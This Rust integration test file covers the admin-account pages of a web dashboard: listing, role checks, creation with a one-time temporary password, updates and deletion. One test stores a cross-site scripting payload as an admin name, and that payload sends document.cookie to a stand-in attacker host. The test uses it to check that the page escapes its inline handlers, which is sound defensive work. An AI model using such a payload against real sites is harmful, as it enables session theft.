//! Integration tests for admin account management.

#![allow(clippy::unwrap_used)]

use axum::http::{Method, StatusCode};
use bitnbolt_integration_tests::{Dashboard, FakeBackend, admin_json, flash, location};
use serde_json::json;

const LIST_PATH: &str = "/api/admin/list";

fn admin_list() -> serde_json::Value {
    json!({
        "admins": [
            admin_json("a1", "Anita Rao", "super_admin"),
            admin_json("a2", "Vikram Shah", "admin")
        ],
        "stats": { "total": 2, "active": 2, "superAdmins": 1 }
    })
}

async fn signed_in_as(backend: &FakeBackend, role: &str) -> Dashboard {
    let dashboard = Dashboard::spawn(backend).await;
    dashboard
        .sign_in(backend, &admin_json("a1", "Anita Rao", role))
        .await;
    dashboard
}

#[tokio::test]
async fn test_admins_page_lists_accounts() {
    let backend = FakeBackend::start().await;
    backend.respond_ok(Method::GET, LIST_PATH, admin_list());
    let dashboard = signed_in_as(&backend, "super_admin").await;

    let response = dashboard.get("/admins").await;
    assert_eq!(response.status(), reqwest::StatusCode::OK);
    let html = response.text().await.unwrap();

    assert!(html.contains("Vikram Shah"));
    assert!(html.contains(r#"action="/admins""#));
    assert!(html.contains(r#"action="/admins/a2/delete""#));
    // No delete button for the signed-in admin
    assert!(!html.contains(r#"action="/admins/a1/delete""#));
}

#[tokio::test]
async fn test_plain_admin_sees_list_without_controls() {
    let backend = FakeBackend::start().await;
    backend.respond_ok(Method::GET, LIST_PATH, admin_list());
    let dashboard = signed_in_as(&backend, "admin").await;

    let html = dashboard.get("/admins").await.text().await.unwrap();
    assert!(html.contains("Vikram Shah"));
    assert!(!html.contains(r#"action="/admins/a2/delete""#));
}

#[tokio::test]
async fn test_plain_admin_cannot_create() {
    let backend = FakeBackend::start().await;
    let dashboard = signed_in_as(&backend, "admin").await;

    let response = dashboard
        .post_form(
            "/admins",
            &[("admin_name", "X"), ("email", "x@bitnbolt.in"), ("role", "admin")],
        )
        .await;

    assert_eq!(response.status(), reqwest::StatusCode::FORBIDDEN);
    assert!(backend.requests_to("/api/admin/create").is_empty());
}

#[tokio::test]
async fn test_create_shows_temporary_password_once() {
    let backend = FakeBackend::start().await;
    backend.respond_ok(
        Method::POST,
        "/api/admin/create",
        json!({ "temporaryPassword": "Tmp-4821" }),
    );
    backend.respond_ok(Method::GET, LIST_PATH, admin_list());
    let dashboard = signed_in_as(&backend, "super_admin").await;

    let body = "admin_name=Meera+Iyer&email=meera%40bitnbolt.in&role=admin\
                &permissions=manage_vendors&permissions=view_analytics";
    let response = dashboard
        .client
        .post(dashboard.url("/admins"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(body)
        .send()
        .await
        .unwrap();

    assert_eq!(
        flash(&response, "success").as_deref(),
        Some("Admin created successfully!")
    );
    assert!(!location(&response).contains("Tmp-4821"));
    assert_eq!(
        backend.requests_to("/api/admin/create")[0].body,
        json!({
            "admin_name": "Meera Iyer",
            "email": "meera@bitnbolt.in",
            "role": "admin",
            "permissions": ["manage_vendors", "view_analytics"]
        })
    );

    let first = dashboard.get("/admins").await.text().await.unwrap();
    assert!(first.contains("Tmp-4821"));
    let second = dashboard.get("/admins").await.text().await.unwrap();
    assert!(!second.contains("Tmp-4821"));
}

#[tokio::test]
async fn test_update_sends_active_flag() {
    let backend = FakeBackend::start().await;
    backend.respond_ok(Method::PUT, "/api/admin/update", json!({}));
    let dashboard = signed_in_as(&backend, "super_admin").await;

    let response = dashboard
        .post_form(
            "/admins/a2/update",
            &[
                ("admin_name", "Vikram Shah"),
                ("email", "a2@bitnbolt.in"),
                ("role", "admin"),
                ("permissions", "manage_orders"),
            ],
        )
        .await;

    assert_eq!(
        flash(&response, "success").as_deref(),
        Some("Admin updated successfully!")
    );
    let sent = &backend.requests_to("/api/admin/update")[0];
    assert_eq!(sent.method, Method::PUT);
    assert_eq!(sent.body["adminId"], "a2");
    assert_eq!(sent.body["isActive"], false);
    assert_eq!(sent.body["permissions"], json!(["manage_orders"]));
}

#[tokio::test]
async fn test_edit_keeps_permissions_without_checkbox() {
    let backend = FakeBackend::start().await;
    let mut vikram = admin_json("a2", "Vikram Shah", "admin");
    vikram["permissions"] = json!(["manage_orders", "export_reports"]);
    backend.respond_ok(
        Method::GET,
        LIST_PATH,
        json!({
            "admins": [admin_json("a1", "Anita Rao", "super_admin"), vikram],
            "stats": { "total": 2, "active": 2, "superAdmins": 1 }
        }),
    );
    backend.respond_ok(Method::PUT, "/api/admin/update", json!({}));
    let dashboard = signed_in_as(&backend, "super_admin").await;

    let html = dashboard.get("/admins").await.text().await.unwrap();
    assert!(html.contains(r#"name="retained_permissions" value="export_reports""#));

    dashboard
        .post_form(
            "/admins/a2/update",
            &[
                ("admin_name", "Vikram Shah"),
                ("email", "a2@bitnbolt.in"),
                ("role", "admin"),
                ("permissions", "manage_orders"),
                ("retained_permissions", "export_reports"),
                ("isActive", "on"),
            ],
        )
        .await;

    let sent = &backend.requests_to("/api/admin/update")[0];
    assert_eq!(
        sent.body["permissions"],
        json!(["manage_orders", "export_reports"])
    );
}

#[tokio::test]
async fn test_delete_uses_query_parameter() {
    let backend = FakeBackend::start().await;
    backend.respond_ok(Method::DELETE, "/api/admin/delete", json!({}));
    let dashboard = signed_in_as(&backend, "super_admin").await;

    let response = dashboard.post_form("/admins/a2/delete", &[]).await;

    assert_eq!(
        flash(&response, "success").as_deref(),
        Some("Admin deleted successfully!")
    );
    let sent = &backend.requests_to("/api/admin/delete")[0];
    assert_eq!(sent.method, Method::DELETE);
    assert_eq!(sent.query_param("adminId").as_deref(), Some("a2"));
}

#[tokio::test]
async fn test_cannot_delete_self() {
    let backend = FakeBackend::start().await;
    let dashboard = signed_in_as(&backend, "super_admin").await;

    let response = dashboard.post_form("/admins/a1/delete", &[]).await;

    assert_eq!(
        flash(&response, "error").as_deref(),
        Some("You cannot delete your own account")
    );
    assert!(backend.requests_to("/api/admin/delete").is_empty());
}

#[tokio::test]
async fn test_admin_names_stay_out_of_inline_scripts() {
    let backend = FakeBackend::start().await;
    let hostile = "x');fetch('//evil.example/'+document.cookie);('";
    backend.respond_ok(
        Method::GET,
        LIST_PATH,
        json!({
            "admins": [
                admin_json("a1", "Anita Rao", "super_admin"),
                admin_json("a2", hostile, "admin")
            ],
            "stats": { "total": 2, "active": 2, "superAdmins": 1 }
        }),
    );
    let dashboard = signed_in_as(&backend, "super_admin").await;

    let html = dashboard.get("/admins").await.text().await.unwrap();

    assert!(html.contains(r#"action="/admins/a2/delete""#));
    let handlers: Vec<&str> = html
        .split(r#"onsubmit=""#)
        .skip(1)
        .filter_map(|rest| rest.split('"').next())
        .collect();
    assert!(!handlers.is_empty());
    for handler in handlers {
        assert!(!handler.contains("evil.example"), "handler: {handler}");
        assert!(!handler.contains("&#39;"), "handler: {handler}");
    }
}

#[tokio::test]
async fn test_create_failure_shows_backend_message() {
    let backend = FakeBackend::start().await;
    backend.respond(
        Method::POST,
        "/api/admin/create",
        StatusCode::CONFLICT,
        json!({ "success": false, "message": "Admin with this email already exists" }),
    );
    let dashboard = signed_in_as(&backend, "super_admin").await;

    let response = dashboard
        .post_form(
            "/admins",
            &[
                ("admin_name", "Anita"),
                ("email", "a1@bitnbolt.in"),
                ("role", "admin"),
            ],
        )
        .await;

    assert_eq!(
        flash(&response, "error").as_deref(),
        Some("Admin with this email already exists")
    );
}
